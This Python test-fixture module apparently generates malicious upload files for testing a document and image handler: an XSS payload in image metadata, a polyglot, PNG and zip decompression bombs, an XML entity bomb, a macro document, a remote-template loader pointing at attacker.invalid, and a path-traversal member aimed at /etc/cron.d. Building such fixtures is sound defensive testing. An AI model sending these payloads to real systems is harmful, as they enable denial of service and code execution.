"""Files that people and attackers send, made on the spot; nothing binary lies in the repository."""

import io
import struct
import zipfile
import zlib

from PIL import Image

WORD_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
SHEET_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml"
SCRIPT = b"<script>alert(1)</script>"
PDF = b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog >>\nendobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def picture(kind: str = "JPEG", size=(640, 480), mode: str = "RGB", **save) -> bytes:
    buffer = io.BytesIO()
    Image.new(mode, size, 128 if mode in ("L", "I;16") else None).save(buffer, kind, **save)
    return buffer.getvalue()


def gps_photo(orientation: int = 1) -> bytes:
    """A photo of a phone: place, camera and a comment in its head."""
    exif = Image.Exif()
    exif[0x0112] = orientation
    exif[0x010F] = "PhoneMaker"
    exif.get_ifd(0x8825).update({1: "N", 2: (31.0, 14.0, 5.0), 3: "E", 4: (121.0, 28.0, 1.0)})
    return picture(size=(400, 200), exif=exif.tobytes(), comment=SCRIPT)


def polyglot() -> bytes:
    """JPEG, HTML and ZIP at once (trap M20)."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        archive.writestr("evil.html", SCRIPT)
    return gps_photo() + SCRIPT + buffer.getvalue()


def huge_png(width: int = 20_000, height: int = 20_000) -> bytes:
    """A small file that unpacks to 400 MB (trap M21)."""

    def chunk(kind: bytes, content: bytes) -> bytes:
        check = zlib.crc32(kind + content)
        return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", check)

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    rows = zlib.compress(bytes((width // 8 + 1) * height), 9)
    return b"".join(
        [b"\x89PNG\r\n\x1a\n", chunk(b"IHDR", head), chunk(b"IDAT", rows), chunk(b"IEND", b"")]
    )


def office(main_type: str = WORD_TYPE, parts: dict | None = None, **options) -> bytes:
    """A minimal office file; `parts` adds or replaces members."""
    types = (
        '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'content-types"><Override PartName="/word/document.xml" ContentType="{main_type}"/></Types>'
    )
    members = {
        "[Content_Types].xml": types,
        "_rels/.rels": '<?xml version="1.0"?><Relationships xmlns="r"></Relationships>',
        "word/document.xml": "<w:document/>",
        **(parts or {}),
    }
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return buffer.getvalue()


def macro_document() -> bytes:
    macro = WORD_TYPE.replace("main+xml", "main+xml").replace(
        "vnd.openxmlformats-officedocument.wordprocessingml.document",
        "vnd.ms-word.document.macroEnabled",
    )
    return office(macro, {"word/vbaProject.bin": b"macro"})


def loading_document() -> bytes:
    """Loads a template from elsewhere as soon as it is opened."""
    relation = (
        '<?xml version="1.0"?><Relationships xmlns="r"><Relationship Id="1" '
        'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        'Target="http://attacker.invalid/t.dotm" TargetMode="External"/></Relationships>'
    )
    return office(parts={"word/_rels/settings.xml.rels": relation})


def entity_document() -> bytes:
    bomb = '<!DOCTYPE x [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;">]><Types>&b;</Types>'
    return office(parts={"[Content_Types].xml": bomb})


def bomb_document() -> bytes:
    """200 MB of zeros in 200 KB (trap M22)."""
    return office(parts={"word/media/zeros.bin": bytes(200 * 1024 * 1024)})


def crowded_document() -> bytes:
    return office(parts={f"word/media/{n}.txt": "x" for n in range(1_100)})


def climbing_document() -> bytes:
    return office(parts={"../../etc/cron.d/x": "x"})


def encrypted_document() -> bytes:
    """The flag of an encrypted member set in both headers."""
    content = bytearray(office())
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        content[content.index(signature) + offset] |= 1
    return bytes(content)


def large_pdf() -> bytes:
    """Three megabytes that do not compress away."""
    return PDF[:-6] + b"% " + b"x" * 3_000_000 + b"\n%%EOF\n"
